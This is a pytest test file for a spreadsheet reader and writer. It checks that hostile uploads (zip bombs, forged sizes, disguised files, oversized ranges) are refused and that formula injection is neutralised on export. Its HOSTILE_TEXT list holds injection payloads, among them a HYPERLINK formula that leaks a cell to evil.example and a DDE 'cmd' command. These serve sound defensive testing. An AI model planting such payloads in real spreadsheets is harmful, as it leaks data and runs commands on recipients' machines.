"""core.spreadsheet, pure: the reader's caps and checks on hostile files, the writer's neutralising."""

from __future__ import annotations

import io
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest

import workbench
from tests.core import spreadsheet_files as files
from workbench.core import spreadsheet
from workbench.core.spreadsheet import (
    MIB,
    ReadLimits,
    SpreadsheetRefused,
    append_row,
    new_workbook,
    read_workbook,
    write_cell,
    xlsx,
    xlsx_bytes,
)

SAMPLES = Path(workbench.__file__).parent / "demo" / "samples"
LIMITS = ReadLimits(
    max_file_bytes=2 * MIB,
    max_uncompressed_bytes=6 * MIB,
    max_sheets=5,
    max_rows=1000,
    max_columns=50,
    max_cells=20_000,
    max_cell_chars=1000,
    max_merged_ranges=100,
)
BASE = [["名称", "数值"], ["甲", 1], ["乙", -2.5]]


def refused(data: bytes, name: str = "f.xlsx", **kw) -> spreadsheet.Problem:
    with pytest.raises(SpreadsheetRefused) as raised:
        read_workbook(source=data, filename=name, limits=kw.pop("limits", LIMITS), **kw)
    return raised.value.problem


@pytest.fixture()
def no_reader(monkeypatch):
    """Any attempt to open the cells fails the test: the file must be refused before."""

    def opened(*args, **kwargs):
        raise AssertionError("a reader opened the workbook")

    monkeypatch.setattr(xlsx, "_calamine", opened)
    monkeypatch.setattr(xlsx, "_openpyxl", opened)


# -- files that read --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "accepted", "file_format", "width"),
    [
        ("wjx_satisfaction_text.xlsx", ("xlsx",), "xlsx", 15),
        ("wjx_satisfaction_text.xls", ("xls",), "xls", 15),
        ("wjx_satisfaction_text_gbk.csv", ("csv",), "csv", 15),
        ("indicator_sheet_example.xlsx", ("xlsx",), "xlsx", 13),
    ],
)
def test_the_samples_read(name, accepted, file_format, width):
    book = read_workbook(source=(SAMPLES / name).read_bytes(), filename=name, accepted=accepted)
    assert book.file_format == file_format
    assert len(book.sheets[0].rows[0]) == width


def test_cells_come_back_as_excel_places_them():
    data = files.one_sheet([[None, None], [None, "x", 3, 2.5, True]])
    rows = read_workbook(source=data, filename="f.xlsx").sheets[0].rows
    assert rows == [[None, None, None, None, None], [None, "x", 3, 2.5, True]]
    assert isinstance(rows[1][2], int)


def test_a_stream_is_read_once_and_never_past_the_limit():
    class Upload(io.BytesIO):
        reads: list[int] = []

        def read(self, size=-1):
            self.reads.append(size)
            return super().read(size)

    upload = Upload(files.one_sheet(BASE))
    read_workbook(source=upload, filename="f.xlsx", limits=LIMITS)
    assert upload.reads == [LIMITS.max_file_bytes + 1]


def test_a_wide_sheet_within_the_limits_reads():
    rows = [[f"c{c}" for c in range(50)] for _ in range(300)]  # 15,000 cells
    book = read_workbook(source=files.one_sheet(rows), filename="f.xlsx", limits=LIMITS)
    assert len(book.sheets[0].rows) == 300


def test_cells_written_without_references_or_with_prefixes_read_the_same():
    plain = '<row r="1"><c t="inlineStr"><is><t>a</t></is></c><c><v>2</v></c></row>'
    prefixed = (
        f'<x:worksheet xmlns:x="{files.MAIN}"><x:sheetData><x:row r="1">'
        '<x:c r="A1" t="inlineStr"><x:is><x:t>a</x:t></x:is></x:c><x:c r="B1"><x:v>2</x:v></x:c>'
        "</x:row></x:sheetData></x:worksheet>"
    )
    for xml in (files.sheet_xml(plain), prefixed):
        book = read_workbook(source=files.package([("S", xml)]), filename="f.xlsx")
        assert book.sheets[0].rows == [["a", 2]]


def test_only_the_first_sheet_when_asked():
    data = files.package(
        [("一", files.sheet_xml(files.rows_xml(BASE))), ("二", files.sheet_xml(""))]
    )
    assert [s.name for s in read_workbook(source=data, filename="f.xlsx").sheets] == ["一", "二"]
    assert [s.name for s in read_workbook(source=data, filename="f", sheets="first").sheets] == [
        "一"
    ]


# -- formulas --------------------------------------------------------------------------------

FORMULA = '<row r="4"><c r="B4"><f>SUM(B2:B3)</f><v>-1.5</v></c><c r="C4"><f>1+1</f></c></row>'


def test_formulas_are_refused_naming_the_cell():
    problem = refused(files.one_sheet(BASE, more=FORMULA))
    assert (problem.kind, problem.row, problem.column_letter) == ("formula", 4, "B")
    assert "工作表“Sheet1”第4行 B列的单元格含有公式" in problem.message
    assert "选择性粘贴 → 数值" in problem.message


def test_formulas_opted_in_give_their_saved_values_and_the_cells():
    book = read_workbook(
        source=files.one_sheet(BASE, more=FORMULA), filename="f", formulas="cached"
    )
    assert book.sheets[0].rows[3] == [None, -1.5]  # C4 saved no value: an empty cell
    assert [(f.sheet, f.ref) for f in book.formulas] == [("Sheet1", "B4"), ("Sheet1", "C4")]


def test_shared_and_prefixed_formulas_are_found():
    shared = '<row r="4"><c r="A4"><f t="shared" si="0" ref="A4:A5">1</f><v>1</v></c></row>'
    child = '<row r="5"><c r="A5"><f t="shared" si="0"/><v>1</v></c></row>'
    assert refused(files.one_sheet(BASE, more=shared + child)).row == 4
    xml = (
        f'<x:worksheet xmlns:x="{files.MAIN}"><x:sheetData><x:row r="1"><x:c r="C1">'
        "<x:f>1</x:f><x:v>1</x:v></x:c></x:row></x:sheetData></x:worksheet>"
    )
    assert refused(files.package([("S", xml)])).column_letter == "C"


# -- hostile files ---------------------------------------------------------------------------


def _far(ref: str) -> bytes:
    return files.one_sheet(BASE, more=f'<row r="9"><c r="{ref}"><v>1</v></c></row>')


def _bomb_member() -> bytes:
    data = files.one_sheet(BASE)
    return files.plain_zip(
        {
            **{n: _member(data, n) for n in _names(data)},
            "xl/media/pad.bin": b" " * (3 * MIB),
        }
    )


def _names(data: bytes) -> list[str]:
    import zipfile

    return zipfile.ZipFile(io.BytesIO(data)).namelist()


def _member(data: bytes, name: str) -> bytes:
    import zipfile

    return zipfile.ZipFile(io.BytesIO(data)).read(name)


def _lying_size() -> bytes:
    """The sheet declares 200 bytes and inflates to megabytes (a forged header over a bomb)."""
    padded = files.one_sheet(BASE, more="<row r='3'/>" * 200_000)
    return files.forge_size(padded, "xl/worksheets/sheet1.xml", 200)


def _cdata_end() -> bytes:
    fake = '<row r="3"><c r="A3" t="inlineStr"><is><t><![CDATA[</sheetData>]]></t></is></c></row>'
    return files.one_sheet(BASE, more=fake + '<row r="5000"><c r="A5000"><v>1</v></c></row>')


# (id, builder, kind, message fragment)
HOSTILE = [
    ("empty", lambda: b"", "empty", "文件为空"),
    ("too big", lambda: b"PK\x03\x04" + b"\0" * (3 * MIB), "too_big", "超过上限 2 MB"),
    ("truncated", lambda: files.one_sheet(BASE)[:300], "broken", "不完整或已损坏"),
    ("zip not a workbook", lambda: files.plain_zip({"a.txt": "x"}), "not_workbook", "不是 Excel 工作簿"),
    ("docx renamed", files.docx, "not_workbook", "Word 文档"),
    ("png renamed", lambda: files.PNG, "not_excel", "PNG 图片"),
    ("html renamed", lambda: b"<html><body><table><tr><td>1</td></tr></table>", "html", "网页"),
    ("csv renamed", lambda: "名称,数值\n甲,1\n".encode(), "not_excel", "内容不是有效的 Excel 文件"),
    ("encrypted xlsx", files.encrypted_xlsx, "encrypted", "设置了打开密码"),
    ("word 97 renamed", files.word_97, "not_excel", "不是 Excel 工作簿（可能是 Word"),
    ("zip bomb ratio", _bomb_member, "zip_bomb", "压缩比"),
    ("zip bomb declared", lambda: files.forge_size(files.one_sheet(BASE), "xl/workbook.xml", 9 * MIB), "zip_bomb", "解压后大小为 9 MB"),
    ("lying sizes", _lying_size, "forged", "实际内容比声明的大小多"),
    ("duplicate members", lambda: files.duplicate_member(files.one_sheet(BASE), "xl/workbook.xml"), "forged", "重名"),
    ("encrypted member", lambda: files.forge_flags(files.one_sheet(BASE), "xl/workbook.xml", flags=1), "encrypted", "设置了密码"),
    ("bzip2 member", lambda: files.forge_flags(files.one_sheet(BASE), "xl/workbook.xml", method=12), "broken", "压缩方式"),
    ("too many sheets", lambda: files.package([(f"S{i}", files.sheet_xml("")) for i in range(6)]), "too_many_sheets", "6 个工作表"),
    ("chart sheets only", lambda: files.package([], chart_sheets=1), "not_workbook", "没有任何工作表"),
    ("forged dimension", lambda: files.one_sheet(BASE, dimension="A1:XFD1048576"), "too_large", "声明的数据范围为 A1:XFD1048576"),
    ("bad dimension", lambda: files.one_sheet(BASE, dimension="A1:ZZZZ9"), "broken", "声明的数据范围“A1:ZZZZ9”无效"),
    ("far corner (calamine abort)", lambda: _far("XFD1048576"), "too_large", "第1048576行 XFD列有内容"),
    ("row past the limit", lambda: _far("A1001"), "too_large", "第1001行 A列有内容"),
    ("column past the limit", lambda: _far("AY1"), "too_large", "第1行 AY列有内容"),
    ("area past the limit", lambda: files.one_sheet(BASE, more='<row r="999"><c r="AX999"><v>1</v></c></row>'), "too_large", "数据区域约 999 行 × 50 列"),
    ("empty reference", lambda: _far(""), "broken", "无效的单元格位置"),
    ("reference without letters", lambda: _far("5"), "broken", "无效的单元格位置"),
    ("implicit cells past the limit", lambda: files.one_sheet(BASE, more='<row r="3">' + "<c><v>1</v></c>" * 60 + "</row>"), "too_large", "第3行 AY列有内容"),
    ("prefixed far cell", lambda: files.package([("S", f'<x:worksheet xmlns:x="{files.MAIN}"><x:sheetData><x:row r="1"><x:c r="XFD1"><x:v>1</x:v></x:c></x:row></x:sheetData></x:worksheet>')]), "too_large", "XFD列有内容"),
    ("cell after a fake end of data", _cdata_end, "too_large", "第5000行 A列有内容"),
    ("too many cells", lambda: files.one_sheet([[1] * 40] * 600), "too_large", "单元格超过 20000 个"),
    ("merged far away", lambda: files.one_sheet(BASE, after='<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'), "too_large", "合并单元格“A1:XFD1048576”超出"),
    ("merged too often", lambda: files.one_sheet(BASE, after="<mergeCells>" + '<mergeCell ref="A1:B1"/>' * 101 + "</mergeCells>"), "too_large", "合并单元格超过 100 处"),
    ("100 KB cell", lambda: files.one_sheet([*BASE, ["长" * 100_000]]), "cell_too_long", "第4行 A列的内容长达 100000 个字符"),
    ("huge shared string", lambda: files.package([("S", files.sheet_xml('<row r="1"><c r="A1" t="s"><v>0</v></c></row>'))], shared=["串" * 5000]), "cell_too_long", "第1行 A列的内容长达 5000 个字符"),
    ("NUL in a cell", lambda: files.one_sheet([*BASE, ["a_x0000_b"]]), "control_character", "第4行 A列含有不可见的控制字符（U+0000）"),
    ("U+FFFE in a cell", lambda: files.one_sheet([*BASE, [None, "a\ufffeb"]]), "control_character", "第4行 B列含有不可见的控制字符（U+FFFE）"),
]  # fmt: skip


# Problems found in the cells once read; every other one is refused before any reader opens it.
IN_CELLS = ("cell_too_long", "control_character")


@pytest.mark.parametrize(
    ("build", "kind", "fragment"),
    [pytest.param(*c[1:], id=c[0]) for c in HOSTILE if c[2] not in IN_CELLS],
)
def test_hostile_files_are_refused_before_any_reader_opens_them(build, kind, fragment, no_reader):
    problem = refused(build())
    assert problem.kind == kind, problem
    assert fragment in problem.message, problem.message


@pytest.mark.parametrize(
    ("build", "kind", "fragment"),
    [pytest.param(*c[1:], id=c[0]) for c in HOSTILE if c[2] in IN_CELLS],
)
def test_hostile_cells_are_refused_naming_the_cell(build, kind, fragment):
    problem = refused(build())
    assert problem.kind == kind, problem
    assert fragment in problem.message, problem.message


def test_html_named_xls_and_xls_where_only_xlsx_is_taken():
    html = b"<!DOCTYPE html><html><head><meta charset='utf-8'></head></html>"
    assert "扩展名为 .xls" in refused(html, "导出.xls", accepted=("xls",)).message
    xls = (SAMPLES / "wjx_satisfaction_text.xls").read_bytes()
    assert (
        refused(xls, "旧.xls").message
        == "“旧.xls”是旧版Excel（.xls）格式，请在Excel中另存为.xlsx后再导入"
    )


def test_password_protected_and_damaged_xls():
    assert refused(files.encrypted_xls(), "a.xls", accepted=("xls",)).kind == "encrypted"
    damaged = (SAMPLES / "wjx_satisfaction_text.xls").read_bytes()[:4096]
    assert "无法读取该 .xls 文件" in refused(damaged, "a.xls", accepted=("xls",)).message


def test_xls_past_the_limits():
    xls = (SAMPLES / "wjx_satisfaction_text.xls").read_bytes()
    small = ReadLimits(max_rows=100)
    assert "241 行 × 15 列" in refused(xls, "a.xls", accepted=("xls",), limits=small).message


def test_every_bad_cell_is_listed_at_once():
    data = files.one_sheet([["a_x0001_", "ok", "b_x0002_"], ["x" * 1001]])
    with pytest.raises(SpreadsheetRefused) as raised:
        read_workbook(source=data, filename="f.xlsx", limits=LIMITS)
    assert [(p.row, p.column_letter) for p in raised.value.problems] == [
        (1, "A"),
        (1, "C"),
        (2, "A"),
    ]


def test_csv_layout_problems_name_the_line():
    problem = refused(b"a,b\n1,2\n3,4,5\n", "f.csv", accepted=("csv",))
    assert (problem.row, problem.kind) == (3, "csv_layout")
    assert "分号" in refused(b"a;b;c\n1;2;3\n", "f.csv", accepted=("csv",)).message


# -- writing ---------------------------------------------------------------------------------

HOSTILE_TEXT = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "a\x00b",
    "c\ufffed",
    "e\ud800f",
    "g\x0bh\x1fi",
    "普通文本",
]
KEPT = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "ab",
    "cd",
    "ef",
    "ghi",
    "普通文本",
]


@pytest.mark.parametrize("write_only", [False, True])
def test_written_text_is_never_a_formula_and_reads_back_the_same(write_only):
    book = new_workbook(write_only=write_only)
    sheet = book.create_sheet("导出")
    append_row(sheet, HOSTILE_TEXT)
    append_row(sheet, [-3, Decimal("-2.50"), 0, None, 1.5, "-5"])
    if not write_only:
        write_cell(sheet, row=3, column=1, value="=1+1")
    data = xlsx_bytes(book)
    cells = openpyxl.load_workbook(io.BytesIO(data))["导出"]
    assert all(c.data_type != "f" for row in cells.iter_rows() for c in row)
    assert [c.value for c in cells[1]] == KEPT
    assert all(c.quotePrefix for c in cells[1][:6]) and not cells[1][6].quotePrefix
    assert [c.value for c in cells[2]][:3] == [-3, -2.5, 0]
    assert [c.data_type for c in cells[2][:6]] == ["n", "n", "n", "n", "n", "s"]
    again = read_workbook(source=data, filename="导出.xlsx", formulas="refuse").sheets[0].rows
    assert again[0] == KEPT and again[1][:3] == [-3, -2.5, 0]


def test_cell_values_are_cleaned_and_kept_in_excel_s_limits():
    assert spreadsheet.cell_value("x" * 40_000) == "x" * 32_766 + "…"
    assert spreadsheet.cell_value(float("nan")) is None
    assert spreadsheet.cell_value(Decimal("NaN")) is None
    assert spreadsheet.cell_value(Decimal("1.50")) == Decimal("1.50")
    assert spreadsheet.cell_value(True) is True
    assert spreadsheet.needs_quote("-1") and not spreadsheet.needs_quote("1-")
